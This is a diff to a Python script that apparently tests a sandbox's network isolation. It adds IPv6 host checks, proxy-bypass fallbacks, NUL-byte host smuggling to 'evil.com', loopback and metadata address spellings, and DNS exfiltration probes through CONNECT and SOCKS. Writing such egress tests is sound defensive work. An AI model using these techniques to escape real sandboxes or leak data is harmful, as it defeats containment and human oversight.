@@ -26,7 +26,7 @@ import urllib.parse
 import urllib.request
 
 WEB, EVIL, WEB6 = "93.184.216.34", "185.199.108.66", "2606:2800:220:1::1"
-HOST, GATEWAY, LOOPBACK = "192.0.2.2", "192.0.2.1", 8081
+HOST, HOST6, GATEWAY, LOOPBACK = "192.0.2.2", "2606:2800:ffff::2", "192.0.2.1", 8081
 INSIDE = not os.environ.get("NETATTACK_OUTSIDE")  # else only what must get through there
 TIMEOUT = float(os.environ.get("NETATTACK_TIMEOUT", "10"))
 
@@ -41,6 +41,7 @@ SPECIAL = {
     "loopback": "127.0.0.1",
     "loopback2": "127.9.9.9",
     "own": HOST,
+    "own6": HOST6,
     "gateway": GATEWAY,
     "private10": "10.0.0.5",
     "private172": "172.16.0.5",
@@ -118,7 +119,7 @@ def tcp(address, port):
 
 def proxy(scheme):
     """(host, port, authorization) of the sandbox's own proxy."""
-    for name in ("http_proxy", "HTTP_PROXY") if scheme == "http" else ("all_proxy", "ALL_PROXY"):
+    for name in ("http_proxy", "HTTP_PROXY") if scheme == "http" else ("all_proxy", "ALL_PROXY", "ftp_proxy"):
         url = urllib.parse.urlsplit(os.environ.get(name, ""))
         if url.hostname and url.scheme.startswith("http" if scheme == "http" else "socks"):
             return url.hostname, url.port, (url.username, url.password)
@@ -130,13 +131,15 @@ def to_proxy(scheme):
     return tcp(socket.gethostbyname(host), port), who
 
 
+def login(who):
+    return b"Proxy-Authorization: Basic %s\r\n" % base64.b64encode(("%s:%s" % who).encode()) if who[0] else b""
+
+
 def connect_by_proxy(target, more=b""):
     """A tunnel to this host:port, given as text or bytes."""
     s, who = to_proxy("http")
     target = target if isinstance(target, bytes) else target.encode()
-    if who[0]:
-        more += b"Proxy-Authorization: Basic " + base64.b64encode(("%s:%s" % who).encode()) + b"\r\n"
-    s.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n" + more + b"\r\n")
+    s.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n" + more + login(who) + b"\r\n")
     head = b""
     while b"\r\n\r\n" not in head:
         data = s.recv(1)
@@ -189,6 +192,17 @@ def by_name(host, port):
             return tcp(to[0], port)
         except OSError as e:
             failed = e
+    raise failed
+
+
+def any_socket(host, port):
+    """Directly, or else by a proxy of the sandbox."""
+    failed = None
+    for way in (by_name, lambda h, p: connect_by_proxy("%s:%d" % (h, p)), connect_by_socks):
+        try:
+            return way(host, port)
+        except (OSError, Cannot) as e:
+            failed = failed or e
     raise failed
 
 
@@ -251,12 +265,28 @@ def get(address, port=80, host=None):
 
 
 def get_name(host, port=80):
-    return any_way(host, port, lambda s: http_get(s, "%s:%d" % (host, port) if port != 80 else host))
+    authority = ("%s:%d" % (host, port) if port != 80 else host).encode()
+    try:
+        found = any_way(host, port, lambda s: http_get(s, authority))
+    except OSError:
+        if "http_proxy" not in os.environ:
+            raise
+        found = None
+    return found or ("http_proxy" in os.environ and get_url(authority))
+
+
+def get_url(authority):
+    """By an absolute URL, which some proxies let pass where they refuse CONNECT."""
+    s, who = to_proxy("http")
+    with s:
+        s.sendall(b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (authority, authority, login(who)))
+        data = read_all(s)
+    return summary(data) if is_answer(data) else None
 
 
 def raw(address, port, text, mark=b'"path": "/smuggled', cuts=()):
     """Sends bytes; evidence is that a server took a part of them for a request to this path."""
-    with by_name(address, port) as s:
+    with any_socket(address, port) as s:
         for start, end in zip((0, *cuts), (*cuts, len(text))):
             s.sendall(text[start:end])
             time.sleep(0.1 if cuts else 0)  # nothing tells when the other side has taken them
@@ -385,7 +415,7 @@ def tls(s, data, piece=0):
 
 
 def tls_to(data, piece=0, host="allowed.com", port=443):
-    with by_name(host, port) as s:
+    with any_socket(host, port) as s:
         return tls(s, data, piece)
 
 
@@ -424,7 +454,7 @@ SPELLINGS = [
     "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "0",
     "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::1%lo]", "[0:0:0:0:0:0:0:1]", "::1",
     "localhost", "LOCALHOST", "localhost.", "sub.localhost", "ip6-localhost", "localhost.localdomain",
-    "127.0.0.1.nip.io", HOST, "[::ffff:192.0.2.2]", "host.docker.internal", "host.containers.internal",
+    "127.0.0.1.nip.io", HOST, "[%s]" % HOST6, "[::ffff:192.0.2.2]", "host.docker.internal", "host.containers.internal",
     "gateway.docker.internal", "metadata.google.internal",
 ]  # fmt: skip
 
@@ -497,7 +527,7 @@ def names_as_host():
 
 
 def by_host(name):
-    with by_name("allowed.com", 80) as s:
+    with any_socket("allowed.com", 80) as s:
         return http_get(s, name)
 
 
@@ -534,11 +564,8 @@ def names_in_urls():
 
 def by_url(authority, host):
     s, who = to_proxy("http")
-    more = b""
-    if who[0]:
-        more = b"Proxy-Authorization: Basic " + base64.b64encode(("%s:%s" % who).encode()) + b"\r\n"
     with s:
-        s.sendall(b"GET http://" + authority + b"/ HTTP/1.1\r\nHost: " + host + b"\r\n" + more
+        s.sendall(b"GET http://" + authority + b"/ HTTP/1.1\r\nHost: " + host + b"\r\n" + login(who)
                   + b"Connection: close\r\n\r\n")  # fmt: skip
         data = read_all(s)
     found = summary(data) if is_answer(data) else ""
@@ -555,7 +582,7 @@ def names_in_socks():
 @row("allow", 48, "allowed names that lead to addresses that are not public")
 def special_names():
     for name, address in SPECIAL.items():
-        port = LOOPBACK if "loopback" in name or name in ("own", "this-host", "this-host6") else 80
+        port = LOOPBACK if "loopback" in name or name in ("own", "own6", "this-host", "this-host6") else 80
         is_live = name not in DEAD and name not in ("loopback2", "loopback6", "this-host6")
         yield name, lambda n=name + ".example.com", p=port: get_name(n, p), is_live
 
@@ -700,6 +727,8 @@ def socks_strictness():
     yield "version-changes", lambda: granted(socks_tcp(3, b"\x0ballowed.com", version=4))
     yield "socks4", lambda: socks4(b"\x04\x01" + struct.pack("!H", 80) + evil4 + b"\0")
     yield "socks4a", lambda: socks4(b"\x04\x01\0\x50\0\0\0\x01\0evil.com\0")
+    yield "nul", lambda: granted(connect_by_socks(b"allowed.com\0.evil.com", 80))
+    yield "nul-by-connect", lambda: granted(connect_by_proxy(b"allowed.com\0.evil.com:80"))
     yield "no-method", lambda: granted(socks_request(b"", b""))
 
 
@@ -737,7 +766,10 @@ def dns_channel():
         if name != "a":
             yield "wildcard-" + name, lambda m=marker, k=kind: upstream(m, lambda: ask_udp(resolver(), query(m + ".example.com", k)))
     marker = "exfil-tcp-%d" % random.randrange(10**9)
-    yield "tcp", lambda: upstream(marker, lambda: ask_tcp(resolver(), query(marker + ".evil.com", 16)))
+    yield "tcp", lambda m=marker: upstream(m, lambda: ask_tcp(resolver(), query(m + ".evil.com", 16)))
+    for name, way in (("connect", lambda m: connect_by_proxy(m + ":443")), ("socks", lambda m: connect_by_socks(m, 443))):
+        marker = "exfil-%s-%d.evil.com" % (name, random.randrange(10**9))
+        yield "by-" + name, lambda m=marker, w=way: upstream(m, lambda: w(m)), False
     label = "exfil-long-%d-" % random.randrange(10**9) + "x" * 40
     yield "long-labels", lambda: upstream(label, lambda: [ask_udp(resolver(), query([label.encode()] * 3 + [b"example", b"com"]))])
     reverse = "%d.113.0.203.in-addr.arpa" % random.randrange(1, 255)
@@ -781,7 +813,7 @@ def apex():
 
 
 def services(port=LOOPBACK):
-    for address in ("127.0.0.1", "127.9.9.9", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", HOST, "::ffff:" + HOST, GATEWAY):
+    for address in ("127.0.0.1", "127.9.9.9", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", HOST, "::ffff:" + HOST, HOST6, GATEWAY):
         at = 80 if address == GATEWAY else port
         yield address, lambda a=address, p=at: get(a, p), address not in ("127.9.9.9", "::1", "::")
     for name in ("localhost", "host.docker.internal", "host.containers.internal", "ip6-localhost"):
@@ -906,7 +938,7 @@ def sysctl():
 def special_addresses():
     yield from services()
     for name, address in SPECIAL.items():
-        if name != "own" and "loopback" not in name and not name.startswith("this-host"):  # those are services() above
+        if not name.startswith("own") and "loopback" not in name and not name.startswith("this-host"):  # those are services() above
             yield "%s %s" % (name, address), lambda a=address: get(a)
     yield "multicast", lambda: get("224.0.0.251"), False
     yield "broadcast", lambda: get("255.255.255.255"), False
@@ -959,7 +991,7 @@ def tls_session():
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["http/1.1"])
-    return context.wrap_socket(by_name("allowed.com", 443), server_hostname="allowed.com")
+    return context.wrap_socket(any_socket("allowed.com", 443), server_hostname="allowed.com")
 
 
 def fronted(host):
